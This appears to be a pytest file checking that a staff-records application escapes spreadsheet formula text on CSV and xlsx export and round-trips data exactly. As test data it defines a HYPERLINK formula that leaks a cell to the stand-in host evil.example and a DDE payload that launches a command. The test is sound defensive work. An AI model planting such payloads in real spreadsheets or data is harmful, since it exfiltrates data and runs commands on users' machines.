"""No exported cell is ever a formula: text cells in .xlsx, a leading ' in CSV (removed on import),
and export -> import -> export gives the same files (shared/spec/bundle.md)."""

from __future__ import annotations

import csv
import filecmp

from openpyxl import load_workbook
from sqlalchemy import select

from nq05.spreadsheets.cells import csv_text, from_csv_text
from nq05.staff.models import Person, Unit
from tests.exchange.conftest import edit

LEAK = '=HYPERLINK("http://evil.example/?leak="&C8,"Bấm vào đây")'
CALC = "=cmd|' /C calc'!A0"


def _ok(runner, *args):
    result = runner.invoke(args=[str(a) for a in args])
    assert result.exit_code == 0, result.output + (result.stderr or "")


def _cells(path, row: int) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))[row]


def _spoiled(bundle):
    """The worked example with names a spreadsheet would run, written the way the spec says."""
    edit(bundle, "people.csv", "S1,Trần Văn An,", f'S1,"{csv_text(LEAK).replace(chr(34), chr(34) * 2)}",')
    edit(
        bundle,
        "people.csv",
        "S2,Lò Văn An,M,1980-05-01,Thái,",
        f'S2,Lò Văn An,M,1980-05-01,"{csv_text(CALC)}",',
    )
    edit(bundle, "units.csv", "H1,Huyện Tam Đường,", "H1,'@Huyện Tam Đường,")
    edit(bundle, "people.csv", "S3,Tòng Văn An,", "S3,'-Tòng Văn An,")
    edit(bundle, "people.csv", "S4,Vàng Văn An,", "S4,''+Vàng Văn An,")  # a name that begins with '+
    return bundle


def test_formula_text_comes_back_exactly_and_leaves_as_text(runner, db, bundle, tmp_path):
    _ok(runner, "import", _spoiled(bundle))
    names = dict(db.session.execute(select(Person.code, Person.full_name)).all())
    ethnicity = db.session.scalar(select(Person.ethnicity).where(Person.code == "S2"))
    assert (names["S1"], ethnicity, names["S3"], names["S4"]) == (LEAK, CALC, "-Tòng Văn An", "'+Vàng Văn An")
    assert db.session.scalar(select(Unit.name).where(Unit.code == "H1")) == "@Huyện Tam Đường"

    _ok(runner, "export", tmp_path / "first")
    people = tmp_path / "first" / "people.csv"
    s1 = next(r for r in csv.reader(open(people, encoding="utf-8")) if r[0] == "S1")
    assert s1[1] == "'" + LEAK
    s2 = next(r for r in csv.reader(open(people, encoding="utf-8")) if r[0] == "S2")
    assert s2[4] == "'" + CALC
    assert _cells(tmp_path / "first" / "units.csv", 1)[1] == "'@Huyện Tam Đường"

    _ok(runner, "import", "--replace", tmp_path / "first")
    _ok(runner, "export", tmp_path / "second")
    match, mismatch, errors = filecmp.cmpfiles(
        tmp_path / "first",
        tmp_path / "second",
        [p.name for p in (tmp_path / "first").iterdir()],
        shallow=False,
    )
    assert mismatch == [] and errors == []

    _ok(runner, "export", tmp_path / "bundle.xlsx")
    book = load_workbook(tmp_path / "bundle.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    leak = next(c for c in book["people"]["B"] if c.value == LEAK)
    assert leak.data_type == "s"
    _ok(runner, "import", "--replace", tmp_path / "bundle.xlsx")
    assert db.session.scalar(select(Person.full_name).where(Person.code == "S1")) == LEAK


def test_the_csv_rule():
    for value in ("=1+1", "+84 912", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x"):
        assert csv_text(value) == "'" + value
        assert from_csv_text(csv_text(value)) == value
    for value in ("Nguyễn Văn An", "'quoted'", "a=b", "", "'"):
        assert csv_text(value) == value and from_csv_text(value) == value
